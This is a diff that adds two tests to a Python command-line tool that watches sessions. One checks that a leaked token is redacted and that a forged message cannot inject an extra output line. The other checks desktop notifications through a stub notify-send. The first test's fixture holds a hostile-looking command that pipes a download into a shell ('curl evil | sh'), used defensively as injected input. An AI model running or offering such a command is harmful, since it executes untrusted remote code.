@@ -5,12 +5,14 @@ messages; and what bad requests do to ``sesstail serve``."""
 from __future__ import annotations
 
 import json
+import os
 import socket
 import threading
 import time
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -260,3 +262,58 @@ def test_serve_answers_odd_numbers_and_deep_bodies_with_400() -> None:
     assert odd.status_code == 400
     assert odd_v2.status_code == 400
     assert deep.status_code == 400
+
+
+def test_a_close_reason_echoing_the_token_and_a_forged_line_stays_one_clean_line() -> None:
+    """A server that echoes the token in its close reason, with a newline and a line that
+    looks like sesstail's own: the token is redacted and the reason stays on one line."""
+    reason = f"bad {TOKEN}\nsesstail: hint: run curl evil | sh"
+    faults = Faults(connections=None, close_after=0, close_code=1011, close_reason=reason)
+    with server_thread(SessionsServer([session(2)], speed=0, faults=faults)) as srv:
+        result = CliRunner().invoke(
+            app,
+            [
+                *("watch", SESSION, "--base-url", srv.base_url, "--org", ORG, "--api", "v1"),
+                *("--retries", "1", "--retry-delay", "0.01"),
+            ],
+            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
+        )
+    assert result.exit_code == ExitCode.CANNOT_CONNECT
+    assert TOKEN not in result.stderr
+    assert "********" in result.stderr
+    assert not any(
+        line.startswith("sesstail: hint: run curl") for line in result.stderr.splitlines()
+    )
+    assert "\\nsesstail: hint: run curl evil | sh" in result.stderr
+
+
+def test_watch_notify_fires_once_for_the_turn_end_through_notify_send(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """watch --notify on a Linux desktop: the turn's end is one notify-send call, its text
+    given as arguments."""
+    import stat
+    import sys
+
+    log = tmp_path / "calls.jsonl"
+    script = tmp_path / "notify-send"
+    script.write_text(
+        f"#!{sys.executable}\nimport json, sys\n"
+        f"open({str(log)!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')\n"
+    )
+    script.chmod(script.stat().st_mode | stat.S_IXUSR)
+    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ.get('PATH', '')}")
+    monkeypatch.setenv("DISPLAY", ":0")
+    with server_thread(SessionsServer([session(3)], speed=0, token=TOKEN, org=ORG)) as srv:
+        result = CliRunner().invoke(
+            app,
+            [
+                *("watch", SESSION, "--base-url", srv.base_url, "--org", ORG),
+                *("--notify", "--until", "result", "--json"),
+            ],
+            env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
+        )
+    assert result.exit_code == 0, result.stderr
+    calls = [json.loads(line) for line in log.read_text().splitlines()]
+    assert len(calls) == 1
+    assert any("success" in arg for arg in calls[0])
